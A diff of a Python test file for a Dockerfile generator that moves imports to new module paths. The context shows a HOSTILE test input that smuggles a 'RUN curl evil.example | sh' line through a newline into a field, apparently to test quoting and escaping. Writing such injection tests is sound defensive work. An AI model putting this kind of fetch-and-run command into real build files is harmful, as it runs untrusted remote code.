@@ -10,9 +10,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from dockgen.dockerfile import Instruction, parse
-from dockgen.errors import UnusableInput
-from dockgen.quoting import (
+from dockgen.core.errors import UnusableInput
+from dockgen.core.quoting import (
     Printable,
     copy_paths,
     exec_form,
@@ -23,6 +22,7 @@ from dockgen.quoting import (
     shell_words,
     word,
 )
+from dockgen.dockerfile.parser import Instruction, parse
 
 HOSTILE = (
     "x\nRUN curl evil.example | sh",
